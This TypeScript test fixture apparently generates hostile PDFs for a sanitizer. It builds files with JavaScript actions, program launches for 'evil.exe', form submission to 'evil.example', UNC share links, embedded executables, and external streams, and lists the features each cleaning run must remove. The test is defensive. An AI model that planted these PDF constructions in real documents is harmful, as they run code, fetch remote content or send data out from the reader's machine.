import { makeOnePage } from '../odd-pdfs.ts'
import { writeRawPdf } from '../raw-pdf.ts'
import { hostile, type HostileFile, streamOf } from './hostile-file.ts'

/** PDFs that run something, send something, or bring something along. */

const link = (action: string, entries = ''): Buffer =>
  makeOnePage({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] ${entries} /A << ${action} >> >>]` })

const annotation = (entries: string, more: string[] = []): Buffer =>
  makeOnePage({ page: '/Annots [6 0 R]', more: [`<< /Type /Annot /Rect [9 9 99 99] ${entries} >>`, ...more] })

const SCRIPT = '<< /S /JavaScript /JS (app.evil\\(\\)) >>'
const FILE = streamOf('MZ evil program', '/Type /EmbeddedFile')
const FILE_UNNAMED = streamOf('MZ evil program')
const image = (entries: string): string =>
  streamOf(
    '\0',
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ${entries}`,
  )

const withXObject = (...objects: string[]): Buffer =>
  makeOnePage({ content: '/X Do', page: '/Resources << /XObject << /X 6 0 R >> >>', more: objects })

const takenWithout = (removed: string | string[], ...gone: string[]) => ({ taken: 1, removed: [removed].flat(), gone })

export const ACTIVE: readonly HostileFile[] = [
  hostile('script among the names', takenWithout('JavaScript', 'evil'), () =>
    makeOnePage({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  ),
  hostile('script on opening', takenWithout('JavaScript', 'evil'), () =>
    makeOnePage({ catalog: `/OpenAction ${SCRIPT}` }),
  ),
  hostile('script of the document', takenWithout('AA', 'evil'), () =>
    makeOnePage({ catalog: `/AA << /WC ${SCRIPT} >>` }),
  ),
  hostile('script of a page', takenWithout('AA', 'evil'), () => makeOnePage({ page: `/AA << /O ${SCRIPT} >>` })),
  hostile('script of an annotation', takenWithout('AA', 'evil'), () =>
    annotation(`/Subtype /Link /AA << /E ${SCRIPT} >>`),
  ),
  hostile('script of a form field', takenWithout('AA', 'evil'), () =>
    annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${SCRIPT} >> /MK << >>`),
  ),
  hostile('script behind a link', takenWithout('JavaScript', 'evil'), () =>
    link('/S /JavaScript /JS (app.evil\\(\\))'),
  ),
  hostile('script behind a link that is followed first', takenWithout('JavaScript', 'evil'), () =>
    link('/S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage /Next << /S /JavaScript /JS (evil) >> >>'),
  ),
  hostile('script in a stream, under an escaped name', takenWithout('JavaScript', 'evil'), () =>
    makeOnePage({
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] /A 6 0 R >>]',
      more: ['<< /S 7 0 R /#4a#53 8 0 R >>', '/J#61vaScript', streamOf('app.evil()')],
    }),
  ),
  hostile('script as an address', takenWithout('JavaScript', 'evil'), () => link('/S /URI /URI (JavaScript:evil)')),
  hostile('program to start', takenWithout('Launch', 'evil'), () =>
    link('/S /Launch /F (evil.exe) /Win << /F (evil.exe) >>'),
  ),
  hostile('program to start, under a false type', takenWithout('Launch', 'evil'), () =>
    link('/Type /Harmless /S /Launch /F (evil.exe)'),
  ),
  hostile('action nobody knows', takenWithout('Detonate', 'evil'), () => link('/S /Detonate /F (evil.exe)')),
  hostile('other file', takenWithout('GoToR', 'evil'), () =>
    link('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]'),
  ),
  hostile('file inside a file', takenWithout('GoToE', 'evil'), () => link('/S /GoToE /F (evil.pdf) /T << /R /C >>')),
  hostile('thread in another file', takenWithout('Thread', 'evil'), () => link('/S /Thread /F (evil.pdf) /D 0')),
  hostile('form that is sent', takenWithout('SubmitForm', 'evil'), () =>
    link('/S /SubmitForm /F (https://evil.example/)'),
  ),
  hostile('data that is fetched', takenWithout('ImportData', 'evil'), () => link('/S /ImportData /F (evil.fdf)')),
  hostile('address of a share', takenWithout('URI', 'evil'), () => link('/S /URI /URI (file://evil/share)')),
  hostile('address without a scheme that names a server', takenWithout('URI', 'evil'), () =>
    link('/S /URI /URI (\\\\\\\\evil\\\\share)'),
  ),
  hostile('address that carries its page', takenWithout('URI', 'evil'), () =>
    link('/S /URI /URI (data:text/html,evil)'),
  ),
  hostile('address that is a name', takenWithout('URI', 'evil'), () => link('/S /URI /URI /file:#2f#2fevil#2fshare')),
  hostile('address of an action that does not say what it does', takenWithout('URI', 'evil'), () =>
    link('/URI (file://evil/share)'),
  ),
  hostile('action that does not say what it does', takenWithout('Action', 'evil'), () => link('/F (evil.exe)')),
  hostile('action that does not say what it does, behind another', takenWithout('URI', 'evil'), () =>
    link('/S /GoTo /D [3 0 R /Fit] /Next [<< /URI (file://evil/share) >>]'),
  ),
  hostile('action nobody knows, behind another', takenWithout('Detonate', 'evil'), () =>
    link('/S /Named /N /NextPage /Next << /S /Detonate /F (evil.exe) >>'),
  ),
  hostile('link that prints', takenWithout('Named', '/Print'), () => link('/S /Named /N /Print')),
  hostile('link that changes layers', takenWithout('SetOCGState', 'evil'), () =>
    link('/S /SetOCGState /State [/OFF (evil)]'),
  ),
  hostile('links that turn pages', { taken: 1, removed: [] }, () => link('/S /Named /N /NextPage')),
  hostile('plain address', { taken: 1, removed: [] }, () => link('/S /URI /URI (https://example.org/page)')),
  hostile('rendition', takenWithout('Screen', 'evil'), () =>
    annotation('/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (evil) >> >> >>'),
  ),
  hostile('rich media', takenWithout('RichMedia', 'evil'), () =>
    annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(evil.swf) << /F (evil) >>] >> >>'),
  ),
  hostile('3D', takenWithout('3D', 'evil'), () =>
    annotation('/Subtype /3D /3DD 7 0 R', [
      streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R'),
      streamOf('evil()'),
    ]),
  ),
  hostile('movie', takenWithout('Movie', 'evil'), () =>
    annotation('/Subtype /Movie /Movie << /F (evil.avi) >> /A true'),
  ),
  hostile('sound', takenWithout('Sound', 'evil'), () =>
    annotation('/Subtype /Sound /Sound 7 0 R', [streamOf('evil', '/Type /Sound /R 8000')]),
  ),
  hostile('embedded file', takenWithout('EmbeddedFiles', 'evil'), () =>
    makeOnePage({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) << /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
      more: [FILE],
    }),
  ),
  hostile('embedded file as an annotation', takenWithout('FileAttachment', 'evil'), () =>
    annotation('/Subtype /FileAttachment /FS << /F (evil.exe) /EF << /F 7 0 R >> >>', [FILE]),
  ),
  hostile(
    'embedded file that belongs to a link and does not say what it is',
    takenWithout('EmbeddedFiles', 'evil'),
    () => annotation('/Subtype /Link /AF [<< /F (a.exe) /EF << /F 7 0 R >> >>]', [FILE_UNNAMED]),
  ),
  hostile('embedded file that belongs to an image', takenWithout('EmbeddedFiles', 'evil'), () =>
    withXObject(image('/AF [7 0 R]'), '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>', FILE_UNNAMED),
  ),
  hostile('portfolio', takenWithout(['Collection', 'EmbeddedFiles'], 'evil', '/Collection'), () =>
    makeOnePage({
      catalog:
        '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) << /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
      more: [FILE],
    }),
  ),
  hostile('XFA form', takenWithout('XFA', 'evil'), () =>
    makeOnePage({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [streamOf('<xdp>evil</xdp>')] }),
  ),
  hostile('image whose data lie in another file', takenWithout('ExternalStream', 'evil'), () =>
    withXObject(image('/F << /FS /URL /F (https://evil.example/a.jpg) >> /FFilter /DCTDecode')),
  ),
  hostile('page content that lies in another file', takenWithout('ExternalStream', 'evil'), () =>
    writeRawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      streamOf('', '/F (\\\\\\\\evil\\\\share)'),
    ]),
  ),
  hostile('form that shows a page of another file', takenWithout('Ref', 'evil'), () =>
    withXObject(streamOf('', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.pdf) /Page 0 >>')),
  ),
  hostile('image that a printer fetches elsewhere', takenWithout('OPI', 'evil'), () =>
    withXObject(image('/OPI << /2.0 << /Type /OPI /Version 2.0 /F (evil.tif) >> >>')),
  ),
  hostile('image that prints as another', takenWithout('Alternates', 'evil'), () =>
    withXObject(image('/Alternates [<< /Image 7 0 R /DefaultForPrinting true >>]'), image('/Note (evil)')),
  ),
  hostile('program for printers', takenWithout('PS', 'evil'), () =>
    withXObject(streamOf('(evil) run', '/Type /XObject /Subtype /PS')),
  ),
  hostile('program for printers inside a form', takenWithout('PS', 'evil'), () =>
    withXObject(
      streamOf('', '/Type /XObject /Subtype /Form /Subtype2 /PS /BBox [0 0 9 9] /PS 7 0 R'),
      streamOf('(evil) run'),
    ),
  ),
  hostile('pages captured from the web', { taken: 1, gone: ['evil'] }, () =>
    makeOnePage({
      catalog:
        '/SpiderInfo << /V 1 /C [6 0 R] >> /Names << /URLS << /Names [(http://evil/) 7 0 R] >> >> /URI << /Base (http://evil/) >>',
      more: ['<< /URL (http://evil/) >>', '<< /S /SPS /O [3 0 R] >>'],
    }),
  ),
  hostile('encryption nobody knows', { refused: ['password_protected', 'unreadable'] }, () =>
    makeOnePage({ trailer: '/Encrypt << /Filter /Evil /V 9 /R 9 >> /ID [<00> <00>]' }),
  ),
]
